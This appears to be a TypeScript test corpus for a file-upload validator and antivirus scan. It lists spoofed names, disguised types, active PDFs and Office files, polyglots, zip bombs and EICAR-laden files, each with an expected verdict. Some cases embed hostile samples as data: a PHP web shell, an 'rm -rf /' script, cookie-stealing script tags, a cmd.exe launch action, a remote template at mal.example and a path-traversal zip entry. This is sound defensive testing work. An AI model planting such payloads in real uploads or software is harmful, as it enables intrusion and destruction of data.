import { randomBytes, randomUUID } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { EICAR, makeDocx, makeJpeg, makeOds, makeOdt, makePdf, makePng, makeXlsx, packedObjects } from './contenus.ts';
import type { Depot } from './depots.ts';
import { makeZip } from './zip.ts';

/** A depot, and what must become of it: a code of the catalogue, or the state of the file once it is scanned. */
export interface Cas extends Pick<Depot, 'name' | 'type' | 'content'> {
  readonly titre: string;
  readonly attendu: string;
}

const HTML = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');
const EXE = Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), randomBytes(500)]);
const OLE = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504), randomBytes(1_000)]);
const LOCKED_OFFICE = Buffer.concat([OLE, Buffer.from('EncryptedPackage', 'utf16le'), Buffer.alloc(200)]);
const EICAR_ZIP = makeZip([{ name: 'facture.com', content: EICAR }]);
const stream = (content: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(`8 0 obj\n<< /Length ${content.length} >>\nstream\n`),
    content,
    Buffer.from('\nendstream\nendobj\n'),
  ]);
const media = (name: string, content: Buffer) => ({ entries: [{ name, content }] });

/** UPLOAD-003: refused by the name, or by what the sender says of the content. */
const NOMS: readonly Cas[] = [
  ...[
    'php',
    'phtml',
    'html',
    'htm',
    'js',
    'mjs',
    'exe',
    'bat',
    'cmd',
    'com',
    'msi',
    'sh',
    'ps1',
    'vbs',
    'jar',
    'svg',
  ].map(
    (ext): Cas => ({
      titre: `un fichier .${ext}`,
      name: `statuts.${ext}`,
      content: makePdf(),
      attendu: `EXTENSION_REFUSEE ${ext}`,
    }),
  ),
  { titre: 'une extension en capitales', name: 'STATUTS.PHP', content: makePdf(), attendu: 'EXTENSION_REFUSEE php' },
  {
    titre: 'une double extension, la mauvaise à la fin',
    name: 'statuts.pdf.exe',
    content: EXE,
    attendu: 'EXTENSION_REFUSEE exe',
  },
  {
    titre: 'une double extension, la mauvaise au milieu',
    name: 'statuts.php.pdf',
    content: makePdf(),
    attendu: 'EXTENSION_REFUSEE php',
  },
  { titre: 'un point final', name: 'statuts.exe.', content: EXE, attendu: 'EXTENSION_REFUSEE exe' },
  { titre: 'une espace finale', name: 'statuts.js ', content: HTML, attendu: 'EXTENSION_REFUSEE js' },
  { titre: 'un contenu annoncé text/html', type: 'text/html', content: makePdf(), attendu: 'EXTENSION_REFUSEE html' },
  {
    titre: 'un contenu annoncé image/svg+xml',
    name: 'a.png',
    type: 'image/svg+xml',
    content: makePng(),
    attendu: 'EXTENSION_REFUSEE svg',
  },
  { titre: 'un nom qui se lit à l’envers', name: 'statuts\u202efdp.pdf', content: makePdf(), attendu: 'NOM_TROMPEUR' },
  {
    titre: 'un nom qui cache son extension',
    name: 'statuts\u202excod.exe',
    content: EXE,
    attendu: 'EXTENSION_REFUSEE exe',
  },
  {
    titre: 'un nom avec un caractère invisible',
    name: 'statuts\u200b.pdf',
    content: makePdf(),
    attendu: 'NOM_TROMPEUR',
  },
  { titre: 'un nom sans extension', name: 'statuts', content: makePdf(), attendu: 'FORMAT_REFUSE' },
  {
    titre: 'un fichier texte',
    name: 'statuts.txt',
    type: 'text/plain',
    content: Buffer.from('Statuts'),
    attendu: 'FORMAT_REFUSE',
  },
  {
    titre: 'une archive',
    name: 'statuts.zip',
    content: makeZip([{ name: 'a.txt', content: 'x' }]),
    attendu: 'FORMAT_REFUSE',
  },
  { titre: 'un ancien document Word', name: 'statuts.doc', content: OLE, attendu: 'FORMAT_REFUSE' },
  {
    titre: 'un document à macros nommé comme tel',
    name: 'statuts.docm',
    content: makeDocx(),
    attendu: 'FORMAT_REFUSE',
  },
  { titre: 'un chemin dans le nom', name: '../../etc/statuts.pdf', content: makePdf(), attendu: 'sain' },
  { titre: 'un nom de trois cents lettres', name: `${'é'.repeat(300)}.pdf`, content: makePdf(), attendu: 'sain' },
];

/** T12: the content is not what the name says. */
const TYPES_USURPES: readonly Cas[] = [
  { titre: 'une page nommée pdf', content: HTML, attendu: 'CONTENU_DIFFERENT' },
  { titre: 'un programme nommé pdf', content: EXE, attendu: 'CONTENU_DIFFERENT' },
  {
    titre: 'un programme Linux nommé png',
    name: 'a.png',
    content: Buffer.concat([Buffer.from('\x7fELF'), randomBytes(300)]),
    attendu: 'CONTENU_DIFFERENT',
  },
  {
    titre: 'un script nommé jpg',
    name: 'a.jpg',
    content: Buffer.from('#!/bin/sh\nrm -rf /\n'),
    attendu: 'CONTENU_DIFFERENT',
  },
  {
    titre: 'du PHP nommé jpg',
    name: 'a.jpg',
    content: Buffer.from('<?php system($_GET[0]); ?>'),
    attendu: 'CONTENU_DIFFERENT',
  },
  {
    titre: 'un SVG nommé png',
    name: 'a.png',
    content: Buffer.from('<svg onload="alert(1)"/>'),
    attendu: 'CONTENU_DIFFERENT',
  },
  { titre: 'un PNG nommé pdf', content: makePng(), attendu: 'CONTENU_DIFFERENT' },
  { titre: 'un PDF nommé docx', name: 'a.docx', content: makePdf(), attendu: 'CONTENU_DIFFERENT' },
  { titre: 'un tableur nommé docx', name: 'a.docx', content: makeXlsx(), attendu: 'CONTENU_DIFFERENT' },
  {
    titre: 'une archive nommée docx',
    name: 'a.docx',
    content: makeZip([{ name: 'a.txt', content: 'x' }]),
    attendu: 'CONTENU_DIFFERENT',
  },
  {
    titre: 'un gif nommé jpg',
    name: 'a.jpg',
    content: Buffer.from('GIF89a\x01\0\x01\0', 'latin1'),
    attendu: 'CONTENU_DIFFERENT',
  },
  { titre: 'un fichier compressé nommé pdf', content: gzipSync(makePdf()), attendu: 'CONTENU_DIFFERENT' },
  { titre: 'du hasard nommé pdf', content: randomBytes(5_000), attendu: 'CONTENU_DIFFERENT' },
  { titre: 'un fichier vide', content: Buffer.alloc(0), attendu: 'FICHIER_VIDE' },
  { titre: 'un seul octet', content: Buffer.from('%'), attendu: 'CONTENU_DIFFERENT' },
  { titre: 'un PDF coupé', content: makePdf().subarray(0, 120), attendu: 'FICHIER_ILLISIBLE' },
  { titre: 'un PNG coupé', name: 'a.png', content: makePng().subarray(0, 50), attendu: 'FICHIER_ILLISIBLE' },
  { titre: 'un JPEG coupé', name: 'a.jpg', content: makeJpeg().subarray(0, 24), attendu: 'FICHIER_ILLISIBLE' },
  { titre: 'un docx coupé', name: 'a.docx', content: makeDocx().subarray(0, 400), attendu: 'FICHIER_ILLISIBLE' },
];

/** T12: right type, and something that runs inside. */
const ACTIFS: readonly Cas[] = [
  {
    titre: 'un PDF à script',
    content: makePdf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >> ' }),
    attendu: 'FICHIER_ACTIF',
  },
  {
    titre: 'un PDF à script masqué',
    content: makePdf({ catalog: '/OpenAction << /S /J#61vaScr#69pt /JS (x) >> ' }),
    attendu: 'FICHIER_ACTIF',
  },
  {
    titre: 'un PDF à script compressé',
    content: makePdf({ extra: packedObjects('4 0 << /S /JavaScript /JS (x) >>') }),
    attendu: 'FICHIER_ACTIF',
  },
  {
    titre: 'un PDF dont les objets sont compressés deux fois',
    content: makePdf({ extra: packedObjects('4 0 <<>>', '/Filter [/ASCIIHexDecode /FlateDecode]') }),
    attendu: 'FICHIER_ILLISIBLE',
  },
  {
    titre: 'un PDF qui lance un programme',
    content: makePdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >> ' }),
    attendu: 'FICHIER_ACTIF',
  },
  {
    titre: 'un PDF avec une pièce jointe',
    content: makePdf({ extra: '7 0 obj\n<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream\nendobj\n' }),
    attendu: 'FICHIER_ACTIF',
  },
  {
    titre: 'un PDF sous mot de passe',
    content: makePdf({ extra: 'trailer\n<< /Encrypt 6 0 R >>\n' }),
    attendu: 'FICHIER_CHIFFRE',
  },
  {
    titre: 'un docx à macros',
    name: 'a.docx',
    content: makeDocx(media('word/vbaProject.bin', randomBytes(50))),
    attendu: 'FICHIER_ACTIF',
  },
  {
    titre: 'un docm renommé docx',
    name: 'a.docx',
    content: makeDocx({
      types: '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    }),
    attendu: 'FICHIER_ACTIF',
  },
  {
    titre: 'un docx au modèle lointain',
    name: 'a.docx',
    content: makeDocx({
      rels: '<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://mal.example/x.dotm" TargetMode="External"/></Relationships>',
    }),
    attendu: 'FICHIER_ACTIF',
  },
  {
    titre: 'un docx avec un objet',
    name: 'a.docx',
    content: makeDocx(media('word/embeddings/oleObject1.bin', EXE)),
    attendu: 'FICHIER_ACTIF',
  },
  {
    titre: 'un tableur à contrôles ActiveX',
    name: 'a.xlsx',
    content: makeXlsx(media('xl/activeX/activeX1.xml', Buffer.from('<x/>'))),
    attendu: 'FICHIER_ACTIF',
  },
  {
    titre: 'un odt à macros',
    name: 'a.odt',
    content: makeOdt(media('Basic/Standard/Module1.xml', Buffer.from('<x/>'))),
    attendu: 'FICHIER_ACTIF',
  },
  {
    titre: 'un ods à script',
    name: 'a.ods',
    content: makeOds(media('Scripts/python/x.py', Buffer.from('print(1)'))),
    attendu: 'FICHIER_ACTIF',
  },
  { titre: 'un docx sous mot de passe', name: 'a.docx', content: LOCKED_OFFICE, attendu: 'FICHIER_CHIFFRE' },
  {
    titre: 'un odt sous mot de passe',
    name: 'a.odt',
    content: makeOdt({ manifest: '<manifest:encryption-data/>' }),
    attendu: 'FICHIER_CHIFFRE',
  },
  {
    titre: 'un docx aux entrées chiffrées',
    name: 'a.docx',
    content: makeDocx({ entries: [{ name: 'word/x.xml', content: 'x', encrypted: true }] }),
    attendu: 'FICHIER_CHIFFRE',
  },
];

/** T12, T14: two files in one, and those that grow once opened. */
const DOUBLES: readonly Cas[] = [
  { titre: 'un PDF suivi d’une archive', content: makePdf({ after: EICAR_ZIP }), attendu: 'FICHIER_DOUBLE' },
  { titre: 'un PDF suivi d’une page', content: makePdf({ after: HTML }), attendu: 'FICHIER_DOUBLE' },
  { titre: 'un PDF précédé d’autre chose', content: Buffer.concat([HTML, makePdf()]), attendu: 'CONTENU_DIFFERENT' },
  {
    titre: 'un PNG suivi d’une archive',
    name: 'a.png',
    content: makePng({ after: EICAR_ZIP }),
    attendu: 'FICHIER_DOUBLE',
  },
  {
    titre: 'un PNG avec une page en commentaire',
    name: 'a.png',
    content: makePng({ text: '<script>alert(1)</script>' }),
    attendu: 'FICHIER_DOUBLE',
  },
  {
    titre: 'un JPEG avec du PHP en commentaire',
    name: 'a.jpg',
    content: makeJpeg({ comment: '<?php phpinfo(); ?>' }),
    attendu: 'FICHIER_DOUBLE',
  },
  {
    titre: 'un JPEG suivi d’une archive',
    name: 'a.jpg',
    content: makeJpeg({ after: EICAR_ZIP }),
    attendu: 'FICHIER_DOUBLE',
  },
  {
    titre: 'un docx précédé d’un programme',
    name: 'a.docx',
    content: makeDocx({ prefix: EXE }),
    attendu: 'CONTENU_DIFFERENT',
  },
  {
    titre: 'un docx avec un commentaire d’archive',
    name: 'a.docx',
    content: makeDocx({ comment: '<?php x(); ?>' }),
    attendu: 'FICHIER_DOUBLE',
  },
  {
    titre: 'un docx qui sort de son dossier',
    name: 'a.docx',
    content: makeDocx(media('../../../etc/cron.d/x', Buffer.from('x'))),
    attendu: 'FICHIER_ILLISIBLE',
  },
  {
    titre: 'un docx avec deux fois la même entrée',
    name: 'a.docx',
    content: makeDocx(media('WORD/document.xml', Buffer.from('x'))),
    attendu: 'FICHIER_DOUBLE',
  },
  {
    titre: 'une bombe : 60 Mo de zéros',
    name: 'a.docx',
    content: makeDocx(media('word/media/a.png', Buffer.alloc(60_000_000))),
    attendu: 'FICHIER_DEMESURE',
  },
  {
    titre: 'une bombe qui annonce quatre gigaoctets',
    name: 'a.xlsx',
    content: makeXlsx({ entries: [{ name: 'xl/a.xml', content: 'x', claimedSize: 4_000_000_000 }] }),
    attendu: 'FICHIER_DEMESURE',
  },
  {
    titre: 'trois mille entrées',
    name: 'a.odt',
    content: makeOdt({ entries: Array.from({ length: 3_000 }, (_, n) => ({ name: `a${n}.xml`, content: 'x' })) }),
    attendu: 'FICHIER_DEMESURE',
  },
  {
    titre: 'une image de dix milliards de points',
    name: 'a.png',
    content: makePng({ width: 100_000, height: 100_000 }),
    attendu: 'FICHIER_DEMESURE',
  },
  {
    titre: 'une photo de deux milliards de points',
    name: 'a.jpg',
    content: makeJpeg({ width: 60_000, height: 40_000 }),
    attendu: 'FICHIER_DEMESURE',
  },
];

/** F18: what only the antivirus can see. */
const INFECTES: readonly Cas[] = [
  { titre: 'EICAR dans un PDF', content: makePdf({ extra: stream(EICAR) }), attendu: 'infecte' },
  {
    titre: 'EICAR dans une archive dans un PDF',
    content: makePdf({ extra: Buffer.concat([stream(EICAR_ZIP), Buffer.alloc(70_000, 32)]) }),
    attendu: 'infecte',
  },
  {
    titre: 'EICAR dans une photo',
    name: 'a.jpg',
    content: makeJpeg({ comment: EICAR.toString('latin1') }),
    attendu: 'infecte',
  },
  {
    titre: 'EICAR dans une image',
    name: 'a.png',
    content: makePng({ text: EICAR.toString('latin1') }),
    attendu: 'infecte',
  },
  {
    titre: 'EICAR dans un docx',
    name: 'a.docx',
    content: makeDocx(media('word/media/image1.png', EICAR)),
    attendu: 'infecte',
  },
  {
    titre: 'EICAR dans un docx, sans compression',
    name: 'a.docx',
    content: makeDocx({ entries: [{ name: 'word/media/image1.png', content: EICAR, stored: true }] }),
    attendu: 'infecte',
  },
  {
    titre: 'EICAR dans une archive dans un docx',
    name: 'a.docx',
    content: makeDocx(media('word/media/image1.emf', EICAR_ZIP)),
    attendu: 'infecte',
  },
  {
    titre: 'EICAR compressé dans un xlsx',
    name: 'a.xlsx',
    content: makeXlsx(media('xl/media/image1.png', gzipSync(EICAR))),
    attendu: 'infecte',
  },
  { titre: 'EICAR dans un odt', name: 'a.odt', content: makeOdt(media('Pictures/a.png', EICAR)), attendu: 'infecte' },
  { titre: 'EICAR dans un ods', name: 'a.ods', content: makeOds(media('Pictures/a.png', EICAR)), attendu: 'infecte' },
];

/** Odd, and honest. */
const SAINS: readonly Cas[] = [
  { titre: 'un PDF', content: makePdf({ extra: `% ${randomUUID()}\n` }), attendu: 'sain' },
  { titre: 'un PDF annoncé comme du binaire', type: 'application/octet-stream', content: makePdf(), attendu: 'sain' },
  {
    titre: 'un PDF aux objets compressés',
    content: makePdf({ extra: packedObjects('4 0 << /Type /Annot >>') }),
    attendu: 'sain',
  },
  { titre: 'un PDF issu d’un docx', name: 'statuts v2.1.docx.pdf', content: makePdf(), attendu: 'sain' },
  { titre: 'une photo .JPEG', name: 'Scan 12.JPEG', type: 'image/jpeg', content: makeJpeg(), attendu: 'sain' },
  { titre: 'une image', name: 'logo.png', type: 'image/png', content: makePng(), attendu: 'sain' },
  { titre: 'un docx', name: 'a.docx', content: makeDocx(), attendu: 'sain' },
  { titre: 'un xlsx', name: 'a.xlsx', content: makeXlsx(), attendu: 'sain' },
  { titre: 'un odt', name: 'a.odt', content: makeOdt(), attendu: 'sain' },
  { titre: 'un ods', name: 'Été « 2026 » & co.ods', content: makeOds(), attendu: 'sain' },
];

export const CORPUS: readonly Cas[] = [...NOMS, ...TYPES_USURPES, ...ACTIFS, ...DOUBLES, ...INFECTES, ...SAINS];
